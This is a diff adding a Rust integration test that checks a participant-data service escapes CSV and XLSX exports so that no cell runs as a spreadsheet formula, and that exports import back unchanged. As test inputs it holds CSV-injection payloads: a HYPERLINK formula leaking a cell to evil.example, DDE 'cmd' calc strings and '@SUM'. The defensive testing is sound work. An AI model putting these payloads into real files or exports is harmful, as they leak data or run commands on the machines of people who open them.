@@ -1,5 +1,6 @@
-//! What an import does to the data itself: text with control characters is a bad row; notes are
-//! never erased; a failing database is an internal error, not a problem of the file.
+//! What an import and an export do to the data itself: exported cells never run as formulas and
+//! import back to the same values; text with control characters is a bad row; notes are never
+//! erased; a failing database is an internal error, not a problem of the file.
 
 use crate::support::*;
 use reqwest::{Client, StatusCode};
@@ -22,6 +23,12 @@ async fn import(
     status_and_json(response).await
 }
 
+async fn download(app: &TestApp, client: &Client, path: &str) -> Vec<u8> {
+    let response = client.get(app.url(path)).send().await.unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+    response.bytes().await.unwrap().to_vec()
+}
+
 /// Registers someone through the API with these fields (on top of the required ones).
 async fn register(app: &TestApp, client: &Client, born: &str, fields: Value) -> String {
     let maasland = app.organisation_id("Revalidatieziekenhuis Maasland").await;
@@ -35,6 +42,108 @@ async fn register(app: &TestApp, client: &Client, born: &str, fields: Value) -> 
     let (status, participant) = app.send_json(client, "POST", "/api/v1/participants", body).await;
     assert_eq!(status, StatusCode::CREATED, "{participant}");
     participant["id"].as_str().unwrap().to_owned()
+}
+
+fn unchanged(report: &Value) {
+    for count in [
+        "participants_created",
+        "participants_updated",
+        "trajectories_created",
+        "trajectories_updated",
+    ] {
+        assert_eq!(report[count], 0, "{count}: {report}");
+    }
+}
+
+/// OWASP's CSV injection: `=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`, `-2+3+cmd|…` came back verbatim.
+#[tokio::test]
+async fn exported_cells_never_run_as_formulas_and_import_back_the_same() {
+    let app = TestApp::spawn().await;
+    let coach = app.api_as(COACH_LIMBURG).await;
+    let link = r#"=HYPERLINK("http://evil.example/?leak="&A2,"Klik")"#;
+    let dde = "+cmd|' /C calc'!A0";
+    let arithmetic = "-2+3+cmd|' /C calc'!A0";
+    let first = register(
+        &app,
+        &coach,
+        "1981-03-04",
+        json!({"first_name": link, "last_name": "@SUM(1+1)", "referrer": dde, "phone": "+32 475 12 34 56"}),
+    )
+    .await;
+    let second = register(
+        &app,
+        &coach,
+        "1982-05-06",
+        json!({"first_name": "'Quote", "last_name": arithmetic, "referrer": "-", "phone": "-0475 12 34 56"}),
+    )
+    .await;
+    let (_, before_first) = app.get_json(&coach, &format!("/api/v1/participants/{first}")).await;
+    let (_, before_second) = app.get_json(&coach, &format!("/api/v1/participants/{second}")).await;
+
+    let csv = download(&app, &coach, "/api/v1/exports/participants.csv").await;
+    let text = String::from_utf8(csv.clone()).unwrap();
+    let line = |id: &str| text.lines().find(|l| l.starts_with(id)).unwrap().to_owned();
+    let (one, two) = (line(&first), line(&second));
+    assert!(
+        one.contains(r#""'=HYPERLINK(""http://evil.example/?leak=""&A2,""Klik"")""#),
+        "{one}"
+    );
+    assert!(one.contains(";'@SUM(1+1);"), "{one}");
+    assert!(
+        one.contains(";\"'+cmd|' /C calc'!A0\";") || one.contains(";'+cmd|' /C calc'!A0;"),
+        "{one}"
+    );
+    assert!(
+        one.contains(";+32 475 12 34 56;"),
+        "a telephone number stays as it is: {one}"
+    );
+    assert!(two.contains(";''Quote;"), "a quote the value had is kept: {two}");
+    assert!(two.contains("'-2+3+cmd|' /C calc'!A0"), "{two}");
+    assert!(two.contains(";-0475 12 34 56;"), "{two}");
+    // No cell of the file starts with what a spreadsheet runs, but plain numbers.
+    for cell in text.lines().skip(1).flat_map(|l| l.split(';')) {
+        let cell = cell.trim_start_matches('"');
+        if let Some(first) = cell.chars().next() {
+            let number = cell[1..].chars().all(|c| c.is_ascii_digit() || " .-".contains(c));
+            assert!(!"=+-@\t\r".contains(first) || number, "{cell:?} runs as a formula");
+        }
+    }
+
+    // The export imports back to the same data, and exports again to the same file.
+    let (status, report) = import(&app, &coach, csv.clone(), "text/csv", false).await;
+    assert_eq!(status, StatusCode::CREATED, "{report}");
+    unchanged(&report);
+    let (_, after_first) = app.get_json(&coach, &format!("/api/v1/participants/{first}")).await;
+    let (_, after_second) = app.get_json(&coach, &format!("/api/v1/participants/{second}")).await;
+    assert_eq!(after_first["participant"]["first_name"], link);
+    assert_eq!(after_first["participant"]["referrer"], dde);
+    assert_eq!(after_second["participant"]["last_name"], arithmetic);
+    assert_eq!(after_second["participant"]["first_name"], "'Quote");
+    assert_eq!(
+        (&after_first["participant"], &after_second["participant"]),
+        (&before_first["participant"], &before_second["participant"])
+    );
+    assert_eq!(download(&app, &coach, "/api/v1/exports/participants.csv").await, csv);
+
+    // The workbook holds them as text, never as formulas, and imports back unchanged too.
+    let xlsx = download(&app, &coach, "/api/v1/exports/participants.xlsx").await;
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx.clone())).unwrap();
+    let mut part = |name: &str| {
+        let mut text = String::new();
+        std::io::Read::read_to_string(&mut zip.by_name(name).unwrap(), &mut text).unwrap();
+        text
+    };
+    let sheet = part("xl/worksheets/sheet1.xml");
+    assert!(
+        !sheet.contains("<f>") && !sheet.contains("<f "),
+        "no formula in the sheet"
+    );
+    let strings = part("xl/sharedStrings.xml");
+    assert!(strings.contains("<t>=HYPERLINK(\"http://evil.example"), "{strings}");
+    assert!(strings.contains("@SUM(1+1)") && strings.contains(arithmetic), "as text");
+    let (status, report) = import(&app, &coach, xlsx, onramp_web::download::XLSX, false).await;
+    assert_eq!(status, StatusCode::CREATED, "{report}");
+    unchanged(&report);
 }
 
 /// A name of control characters would be stored (NUL in a name, an escape sequence in a referrer).
